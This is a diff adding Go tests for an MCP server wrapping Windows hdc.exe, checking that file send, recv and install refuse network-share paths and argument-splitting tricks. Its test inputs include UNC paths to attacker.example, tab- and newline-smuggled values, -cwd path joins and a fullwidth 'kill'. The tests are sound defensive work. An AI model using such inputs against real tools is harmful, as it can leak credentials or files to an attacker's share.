@@ -1,0 +1,163 @@
+package hdc_test
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/winbridge/winbridge/client"
+	"github.com/winbridge/winbridge/hdc"
+	"github.com/winbridge/winbridge/mcp"
+	"github.com/winbridge/winbridge/transport"
+	"github.com/winbridge/winbridge/winexec"
+)
+
+// TestRunNetworkPathsAsHdcSplits: hdc does not open an argument of file
+// send, file recv or install as it is. It joins the command line and
+// splits it again with Base::SplitCommandToArgs (src/common/file.cpp,
+// src/host/host_app.cpp), which drops double quotes and splits at tabs,
+// and joins a relative path to a -cwd value. A network share hidden that
+// way must be refused like a plain one: Windows would connect and
+// authenticate to the host, and file send needs no confirm.
+func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
+	r, c, ctx := countingTools(t)
+	for _, args := range [][]string{
+		{"-t", "K1", "file", "send", `"\\attacker.example\share\x"`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", "a\t\\\\attacker.example\\share\\x", "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", "-cwd", `"\\attacker.example\share"`, "x", "/data/local/tmp/x"},
+		{"-t", "K1", "file", "recv", "/data/local/tmp/x", `"//attacker.example/share/x"`},
+		{"-t", "K1", "install", `"\\?\UNC\attacker.example\share\x.hap"`},
+		{"-t", "K1", "file send", "x\t\\\\.\\pipe\\x", "/data/local/tmp/x"},
+		// hdc.exe joins a path it deems relative (neither "X:\" nor a
+		// leading "\\") to the -cwd value as text: "\" or "/" and
+		// "\host\share\x" make "\\host\share\x".
+		{"-t", "K1", "file", "send", "-cwd", `\`, `\attacker.example\share\x`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "recv", "/data/local/tmp/x", "-cwd", "/", "/attacker.example/share/x"},
+		{"-t", "K1", "install", "-cwd", "/", "/attacker.example/share/x.hap"},
+		{"-t", "K1", "install", "-cwd", `\`, `\?\UNC\attacker.example\share\x.hap`},
+	} {
+		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
+		if err != nil || !res.IsError || !strings.Contains(res.TextOf(), "network share") && !strings.Contains(res.TextOf(), "device path") {
+			t.Errorf("hdc_run %q = %v %q; want refused as a network share or device path", args, err, res.TextOf())
+		}
+	}
+	if n := r.count(); n != 0 {
+		t.Errorf("hdc ran %d times: %q", n, r.runs)
+	}
+	// Drive paths, quoted or not, and WSL's share still run.
+	for _, args := range [][]string{
+		{"-t", "K1", "file", "send", `"C:\my files\x"`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", `\\wsl.localhost\Ubuntu\home\u\x`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", "-cwd", `C:\dir\`, `\x`, "/data/local/tmp/x"},
+	} {
+		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args})
+		if err != nil || res.IsError {
+			t.Errorf("hdc_run %q = %v %q; want it run", args, err, res.TextOf())
+		}
+	}
+}
+
+// countingTools serves the hdc tools for a Windows hdc.exe whose runs are
+// only counted.
+func countingTools(t *testing.T) (*countingRunner, *client.Client, context.Context) {
+	t.Helper()
+	r := &countingRunner{}
+	ex, err := winexec.New(winexec.Config{Runner: r, HDCExe: "hdc.exe"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ex.Close() })
+	srv := mcp.NewServer(&mcp.Implementation{Name: "netpath", Version: "1.0.0"}, nil)
+	hdc.AddTools(srv, ex, nil)
+	a, b := transport.Pipe(nil)
+	srv.Connect(b)
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	t.Cleanup(cancel)
+	c, err := client.Connect(ctx, a, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { c.Close() })
+	return r, c, ctx
+}
+
+// TestFileToolsReadAsHdcSplits: the dedicated tools mean their local
+// path to be the one hdc opens, but hdc splits its command line again
+// (Base::SplitCommandToArgs drops double quotes and splits at tabs, CR
+// and LF) and takes the local path from the end: a remote path holding a
+// tab put a network share in its place, for hdc_file_send without
+// confirm. Every dedicated tool must refuse arguments hdc would split
+// differently.
+func TestFileToolsReadAsHdcSplits(t *testing.T) {
+	r, c, ctx := countingTools(t)
+	for _, call := range []struct {
+		tool string
+		args map[string]any
+	}{
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "\\\\attacker.example\\share\\x\t/data/local/tmp/x"}},
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": `/data/a"b`}},
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "/data/a\nb"}},
+		{hdc.ToolFileRecv, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "/data/x\t-cwd", "confirm": true}},
+		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": "/mnt/c/a\tb", "remote": "/data/x"}},
+	} {
+		res, err := c.CallTool(ctx, call.tool, call.args)
+		if err != nil || !res.IsError {
+			t.Errorf("%s %q = %v %q; want refused", call.tool, call.args, err, res.TextOf())
+		}
+	}
+	if n := r.count(); n != 0 {
+		t.Errorf("hdc ran %d times: %q", n, r.runs)
+	}
+	// Spaces are hdc's to quote, and it does.
+	res, err := c.CallTool(ctx, hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\my files\x`, "remote": "/data/my files/x"})
+	if err != nil || res.IsError {
+		t.Errorf("paths with spaces: %v %q", err, res.TextOf())
+	}
+}
+
+// TestWindowsHdcWithoutExeSuffix: a Windows hdc named by a Windows path
+// without ".exe" (HDC_EXE=C:\sdk\hdc, which CreateProcess and wine
+// complete), or any hdc under a launcher, is hdc.exe all the same: it
+// reads its command line through the ANSI code page, whose best-fit
+// mapping turns fullwidth "ｋｉｌｌ" into kill, and opens network shares.
+// The Windows-only refusals must hold for it too.
+func TestWindowsHdcWithoutExeSuffix(t *testing.T) {
+	for _, cfg := range []winexec.Config{
+		{HDCExe: `C:\sdk\hdc`},
+		{HDCExe: "hdc", Backend: winexec.BackendDirect, Launcher: []string{"wine"}, Policy: winexec.Policy{AllowExe: []string{"hdc"}}},
+	} {
+		r := &countingRunner{}
+		if cfg.Backend == "" {
+			cfg.Runner = r
+		}
+		ex, err := winexec.New(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		srv := mcp.NewServer(&mcp.Implementation{Name: "suffix", Version: "1.0.0"}, nil)
+		hdc.AddTools(srv, ex, nil)
+		a, b := transport.Pipe(nil)
+		srv.Connect(b)
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		c, err := client.Connect(ctx, a, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, args := range [][]string{
+			{"ｋｉｌｌ"},
+			{"-t", "K1", "file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"},
+		} {
+			res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "dryRun": true})
+			if err != nil || !res.IsError {
+				t.Errorf("HDC_EXE %q: hdc_run %q = %v %q; want refused", cfg.HDCExe, args, err, res.TextOf())
+			}
+		}
+		cancel()
+		c.Close()
+		ex.Close()
+		if n := r.count(); n != 0 {
+			t.Errorf("hdc ran %d times: %q", n, r.runs)
+		}
+	}
+}
